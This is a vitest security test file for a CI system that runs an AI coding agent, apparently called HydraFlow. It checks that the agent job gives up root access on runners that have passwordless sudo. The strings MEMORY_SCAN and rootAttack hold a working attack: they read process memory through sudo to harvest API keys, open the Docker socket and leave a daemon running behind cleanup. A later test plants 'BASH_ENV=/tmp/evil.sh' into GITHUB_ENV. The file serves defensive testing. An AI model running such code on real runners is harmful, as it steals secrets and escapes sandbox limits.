/**
 * The agent job on a runner like GitHub's hosted ones, whose user has passwordless `sudo` and a group that opens a
 * root-owned service socket (the Docker socket there). Root reads any process's memory, Yama or not: the model proxy's,
 * key included, and the runner's own, which holds the job's secrets. HydraFlow gives root up before the agent's code
 * runs, for the rest of the job (docs/adr/0023-the-agent-job-gives-up-root.md); `implement.runner_root: keep` is the
 * control that shows the attack is real.
 */
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { formatTimeline, SAMPLE_CONFIG } from '@hydraflow/testkit';
import { createSudoUser, sudoUserUnavailable, type SudoUser } from '../support/sudo-user';
import { agentRunningScript, agentWorld, everythingPublished, issueState, openIssue, progressOf } from './agent-world';
import { reviewClean, type LifecycleWorld } from './scenario';

let world: LifecycleWorld | undefined;
let user: SudoUser | undefined;
afterEach(async () => {
  await world?.close();
  await user?.remove();
  world = undefined;
  user = undefined;
});

/**
 * Run as root through `sudo -n`: reads the memory of every HydraFlow process on the machine (its bundle's node
 * processes: the model proxy among them) and prints whatever looks like an API key.
 */
const MEMORY_SCAN = `const fs = require('fs');
const found = new Set();
for (const pid of fs.readdirSync('/proc')) {
  if (!/^\\d+$/.test(pid) || Number(pid) === process.pid) continue;
  let maps, cmd;
  try { maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8'); cmd = fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8'); } catch { continue; }
  if (!cmd.includes('index.js')) continue;
  let fd;
  try { fd = fs.openSync('/proc/' + pid + '/mem', 'r'); } catch { continue; }
  for (const line of maps.split('\\n')) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!m) continue;
    const start = BigInt('0x' + m[1]), size = Number(BigInt('0x' + m[2]) - start);
    if (size > 64 * 1024 * 1024) continue;
    const buf = Buffer.alloc(size);
    try { fs.readSync(fd, buf, 0, size, start); } catch { continue; }
    for (const key of buf.toString('latin1').match(/sk-[A-Za-z0-9_-]{12,}/g) || []) found.add(key);
  }
  fs.closeSync(fd);
}
console.log('keys: ' + [...found].join(' '));
`;

/** A harmless change and nothing else. */
const CHANGELOG_ONLY = `if (!fs.existsSync('CHANGELOG.md')) fs.writeFileSync('CHANGELOG.md', 'average() added\\n');\n`;

/** What the injected test names the daemon it leaves behind (its pid inside the agent's namespace says nothing here). */
const DAEMON = 'hf-leftover-daemon';

/** Processes on this machine whose command line names the daemon. */
function daemonsAlive(): string[] {
  return readdirSync('/proc').filter((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(DAEMON);
    } catch {
      return false;
    }
  });
}

/** The injected test: root through sudo, then the service socket; what it got goes to `trap`. */
function rootAttack(trap: string, socket: string): string {
  return `const { execFileSync, spawn } = require('child_process');
if (!fs.existsSync('CHANGELOG.md')) fs.writeFileSync('CHANGELOG.md', 'average() added\\n');
spawn('setsid', [process.execPath, '-e', 'setTimeout(() => {}, 120000)', '${DAEMON}'], { detached: true, stdio: 'ignore', env: {} }).unref();
let seen = fs.readFileSync('/proc/self/status', 'utf8').split('\\n').filter((l) => /^(NoNewPrivs|Groups)/.test(l)).join(' ') + '\\n';
try {
  seen += execFileSync('sudo', ['-n', process.execPath, '-e', ${JSON.stringify(MEMORY_SCAN)}], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout: 90000 });
} catch (e) { seen += 'sudo refused: ' + String(e.stderr || e.message).trim().slice(0, 200) + '\\n'; }
const net = require('net');
const c = net.connect(${JSON.stringify(socket)});
c.on('connect', () => { fs.writeFileSync(${JSON.stringify(trap)}, seen + 'socket: connected\\n'); c.destroy(); });
c.on('error', (e) => fs.writeFileSync(${JSON.stringify(trap)}, seen + 'socket: ' + e.code + '\\n'));
`;
}

async function attackedWorld(config: string, sudo?: string): Promise<{ trap: string; w: LifecycleWorld }> {
  user = await createSudoUser(sudo);
  const dir = mkdtempSync(join(tmpdir(), 'hf-trap-'));
  chmodSync(dir, 0o777); // the agent job's user writes here
  const trap = join(dir, 'found');
  const w = await agentWorld(agentRunningScript(rootAttack(trap, user.socket)), {
    review: reviewClean,
    world: { runAs: { jobs: ['agent'], user: user.name }, sample: { extraFiles: { '.github/hydraflow.yml': config } } },
  });
  world = w;
  return { trap, w };
}

const read = (file: string) => (existsSync(file) ? readFileSync(file, 'utf8') : '');

describe.skipIf(sudoUserUnavailable())('the agent job on a runner whose user can become root', () => {
  it('the injected test gets no root: sudo and the service socket are closed to it and to the rest of the job, so no process’s memory gives it the model key; the change still goes through', async () => {
    const { trap, w } = await attackedWorld(SAMPLE_CONFIG);
    openIssue(w);
    const jobs = await w.lc.runUntilQuiet();
    const seen = read(trap);
    const timeline = formatTimeline(jobs, { steps: true });
    // no_new_privs, and no supplementary group: not the socket's
    expect(seen, timeline).toMatch(/Groups:[\t ]*NoNewPrivs:\t1/);
    expect(seen).toContain('sudo refused');
    expect(seen).toContain('socket: EACCES');
    expect(seen).not.toContain(w.modelKey);
    expect(everythingPublished(w)).not.toContain(w.modelKey);
    expect(user!.canSudo()).toBe(false); // for the rest of the job: a later step's code cannot take it back
    // a daemon with no runner variable in its environment, which the runner's clean-up by RUNNER_TRACKING_ID would
    // miss, died with the agent's PID namespace
    expect(daemonsAlive()).toEqual([]);
    const agent = jobs.find((j) => j.job === 'agent')!;
    expect(agent.status, timeline).toBe('success');
    expect(agent.steps.map((s) => s.stdout).join('\n')).toMatch(/gave up root/);
    expect(w.gh.world.pulls.size).toBe(1); // the agent's own work was not in the way
  }, 240_000);

  it('with implement.runner_root: keep, the same test reads the model key out of the proxy’s memory (the attack is real)', async () => {
    const { trap, w } = await attackedWorld(`${SAMPLE_CONFIG}  runner_root: keep\n`);
    openIssue(w);
    const jobs = await w.lc.runUntilQuiet();
    const seen = read(trap);
    expect(seen, formatTimeline(jobs, { steps: true })).toContain(w.modelKey);
    expect(seen).toContain('socket: connected');
    expect(user!.canSudo()).toBe(true);
    expect(daemonsAlive().length).toBeGreaterThan(0); // and nothing ends what the commands left running
  }, 240_000);

  it('when root cannot be taken (here: sudo runs anything but a shell), the agent never starts: the step fails with the reason and a human is told', async () => {
    const { trap, w } = await attackedWorld(SAMPLE_CONFIG, 'ALL, !/bin/sh');
    openIssue(w);
    const jobs = await w.lc.runUntilQuiet();
    const agent = jobs.find((j) => j.job === 'agent')!;
    const log = agent.steps.map((s) => `${s.stdout}\n${s.stderr ?? ''}`).join('\n');
    expect(agent.status, formatTimeline(jobs, { steps: true })).toBe('failure');
    expect(log).toContain('HydraFlow could not take root from the agent');
    expect(log).toContain('implement.runner_root: keep');
    expect(existsSync(trap)).toBe(false); // the agent's test never ran
    expect(w.gh.world.pulls.size).toBe(0);
    expect(w.gh.world.issues.get(1)!.labels).toEqual(['hydraflow-hitl']);
    // the issue says why, not only that a step failed: the agent step's error, as GitHub annotated the job
    expect(progressOf(w)).toMatch(
      /the step `Run hydraflow\/hydraflow\/actions\/agent@\u200bv1` failed: “HydraFlow could not take root from the agent/u,
    );
    // the first turn the model proxy sent before the agent step gave up is in the issue's ledger (its last step)
    expect(w.models.calls.filter((c) => c.role === 'implement')).toHaveLength(1);
    expect(issueState(w).ledger.filter((e) => e.phase === 'implement')).toHaveLength(1);
  }, 240_000);

  it('a GITHUB_ENV the agent’s commands append to and make read-only is emptied anyway, and the change goes to a human', async () => {
    // As the runner's user (not root, whom a mode does not stop), through the runner's layout: the step files sit
    // beside HOME here (under RUNNER_TEMP on a runner), and the commands' own environment names none of them.
    user = await createSudoUser();
    const w = await agentWorld(
      agentRunningScript(
        `const dir = require('path').join(process.env.HOME, '..', '_runner_file_commands');\nfor (const step of fs.readdirSync(dir)) {\n  const env = require('path').join(dir, step, 'env');\n  if (!fs.existsSync(env)) continue;\n  fs.appendFileSync(env, 'BASH_ENV=/tmp/evil.sh\\n');\n  fs.chmodSync(env, 0o444);\n}\n`,
      ),
      { world: { runAs: { jobs: ['agent'], user: user.name } } },
    );
    world = w;
    openIssue(w);
    const jobs = await w.lc.runUntilQuiet();
    expect(w.gh.world.issues.get(1)!.labels, formatTimeline(jobs, { steps: true })).toEqual(['hydraflow-hitl']);
    expect(progressOf(w)).toContain('wrote to GITHUB_ENV');
    expect(w.gh.world.pulls.size).toBe(0);
  }, 240_000);

  it('a user with passwordless sudo for one program only keeps it (nothing to give it up with), and the agent step says so', async () => {
    user = await createSudoUser('/usr/bin/id');
    const w = await agentWorld(agentRunningScript(CHANGELOG_ONLY), {
      review: reviewClean,
      world: { runAs: { jobs: ['agent'], user: user.name } },
    });
    world = w;
    openIssue(w);
    const jobs = await w.lc.runUntilQuiet();
    const agent = jobs.find((j) => j.job === 'agent')!;
    const log = agent.steps.map((s) => s.stdout).join('\n');
    expect(log, formatTimeline(jobs, { steps: true })).toContain('run some commands with sudo without a password');
    expect(w.gh.world.pulls.size).toBe(1); // the agent ran as before
  }, 240_000);

  it('a second agent job on the same runner (a self-hosted one, whose sudo the first took) runs as before, and warns of nothing that is not there', async () => {
    user = await createSudoUser();
    const run = async () => {
      const w = await agentWorld(agentRunningScript(CHANGELOG_ONLY), {
        review: reviewClean,
        world: { runAs: { jobs: ['agent'], user: user!.name } },
      });
      world = w;
      openIssue(w);
      const jobs = await w.lc.runUntilQuiet();
      await w.close();
      world = undefined;
      return {
        log: jobs
          .find((j) => j.job === 'agent')!
          .steps.map((s) => s.stdout)
          .join('\n'),
        jobs,
        pulls: w.gh.world.pulls.size,
      };
    };
    const first = await run();
    expect(first.log, formatTimeline(first.jobs, { steps: true })).toMatch(/gave up root/);
    expect(user.canSudo()).toBe(false);
    const second = await run();
    expect(second.log, formatTimeline(second.jobs, { steps: true })).not.toMatch(/::warning::/);
    expect(second.pulls).toBe(1);
  }, 240_000);
});
